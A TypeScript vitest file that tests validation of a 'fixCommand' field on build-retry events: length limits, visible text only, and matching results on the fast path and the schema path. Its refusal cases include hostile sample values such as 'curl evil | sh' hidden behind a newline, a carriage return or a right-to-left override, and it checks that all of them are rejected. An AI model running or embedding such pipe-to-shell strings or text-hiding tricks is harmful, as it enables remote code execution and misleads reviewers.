// fixCommand, our extension of the execution event (README "Recipes"): accepted only with a fix, as one
// line of visible text of at most 2,000 characters; both validators agree (the fast path leaves such
// events to the zod schema) and the stored row carries it.
import { describe, expect, test } from "vitest";
import { executionEventSchema, LIMITS } from "./event-schema";
import { fastRow } from "./fast-path";
import { checkEvents, validateEvents } from "./validate";

const retry = { operation: "build", startedAt: "2026-11-20T10:00:00Z", durationMs: 5, success: true, retryOf: "f1", fix: "install httpx" };
/** when the events arrive: a start more than a day ahead of it is refused */
const RECEIVED = Date.parse("2026-11-20T10:05:00Z");

describe("fixCommand", () => {
  test("is accepted with a fix and stored on the row, the same on both paths", () => {
    const event = { ...retry, id: "r1", fixCommand: "pip install 'httpx>=0.27' && echo ok" };
    expect(validateEvents([event]).ok).toBe(true);
    const checked = checkEvents([event], RECEIVED);
    expect(checked.ok && checked.rows[0]!.fixCommand).toBe("pip install 'httpx>=0.27' && echo ok");
    const plain = checkEvents([{ ...retry, id: "r2" }], RECEIVED);
    expect(plain.ok && plain.rows[0]!.fixCommand).toBeNull();
  });

  test.each([
    ["without a fix", { ...retry, fix: undefined, fixCommand: "pip install httpx" }, "give fix too"],
    ["empty", { ...retry, fixCommand: "" }, "must not be empty"],
    ["only spaces", { ...retry, fixCommand: "   " }, "visible text"],
    ["longer than the limit", { ...retry, fixCommand: "x".repeat(LIMITS.fixCommandLength + 1) }, "at most 2000"],
    ["with a newline", { ...retry, fixCommand: "true\ncurl evil | sh" }, "control"],
    ["with a carriage return that hides text", { ...retry, fixCommand: "curl evil | sh\rpip install httpx" }, "control"],
    ["with a terminal escape", { ...retry, fixCommand: "pip install httpx\u001b[2K" }, "control"],
    ["with a right-to-left override", { ...retry, fixCommand: "pip install \u202ehs | live lruc" }, "bidirectional"],
    ["not text", { ...retry, fixCommand: 7 }, ""],
  ])("is refused %s, naming the field, and nothing passes the fast path", (_name, event, message) => {
    expect(fastRow(event, RECEIVED)).toBeNull();
    expect(executionEventSchema.safeParse(event).success).toBe(false);
    const out = validateEvents([event]);
    expect(out.ok).toBe(false);
    if (!out.ok) {
      expect(out.errors[0]!.path).toBe("fixCommand");
      expect(out.errors[0]!.message).toContain(message);
    }
    expect(checkEvents([event], RECEIVED).ok).toBe(false);
  });

  test("a command of exactly the limit is accepted", () => {
    expect(validateEvents([{ ...retry, fixCommand: "x".repeat(LIMITS.fixCommandLength) }]).ok).toBe(true);
  });
});
